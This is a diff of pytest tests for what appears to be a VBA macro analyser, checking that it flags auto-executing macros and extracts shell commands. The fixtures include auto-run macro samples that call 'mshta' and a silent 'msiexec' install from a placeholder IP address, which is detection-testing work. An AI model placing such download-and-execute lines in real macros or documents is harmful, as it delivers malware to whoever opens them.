@@ -97,3 +97,31 @@ def test_limits_are_named():
     _, _, error = read('Attribute VB_Name = "A"\r\n' + "' x\n" * 200_000)
     assert isinstance(error, LimitError)
     assert is_vba(Artifact("a.bas", b"Sub x()\nEnd Sub" + bytes([32]) * HEAD, "a.bas"))
+
+
+@pytest.mark.parametrize("name", ["a.bas", "a.cls", "a.frm", "a.vba"])
+def test_bare_files_are_graded_whatever_they_are_called(name):
+    source = b'Sub Auto_Open()\r\nShell "mshta http://192.0.2.1/a", 0\r\nEnd Sub\r\n'
+    assert is_vba(Artifact(name, source, name))
+    features = [one for one in analyze(Artifact(name, source, name)) if isinstance(one, Feature)]
+    assert [one.value for one in features if one.name == "macro.grade"] == ["auto_exec"]
+
+
+def test_modules_one_after_another_and_texts_of_forms_in_a_report():
+    joined = b'   Attribute VB_Name = "AutoOpen"\r\n   Public Sub MAIN()\r\n   Shell "cmd /c x"\r\n   End Sub\r\n   Attribute VB_Name = "Other"\r\n   Sub b()\r\n   End Sub\r\n'
+    grades = [
+        one.value for one in analyze(Artifact("a.bas", joined, "a.bas")) if getattr(one, "name", "") == "macro.grade"
+    ]
+    assert grades == ["auto_exec"]
+    line = "- " * 39 + "-"
+    report = (
+        f"VBA MACRO ThisDocument.cls \nin file: a - OLE stream: 'x'\n{line}\nSub document_open()\nShell UserForm1.TextBox1.Text\nEnd Sub\n"
+        + "-" * 79
+        + f"\nVBA FORM Variable \"b'TextBox1'\" IN 'a' - OLE stream: 'Macros/UserForm1'\n{line}\nb'msiexec /q /i http://192.0.2.1/a'\n"
+    )
+    commands = [
+        one.value
+        for one in analyze(Artifact("a.cls", report.encode(), "a.cls"))
+        if getattr(one, "name", "") == "vba.commands"
+    ]
+    assert commands == ["msiexec /q /i http://192.0.2.1/a"]
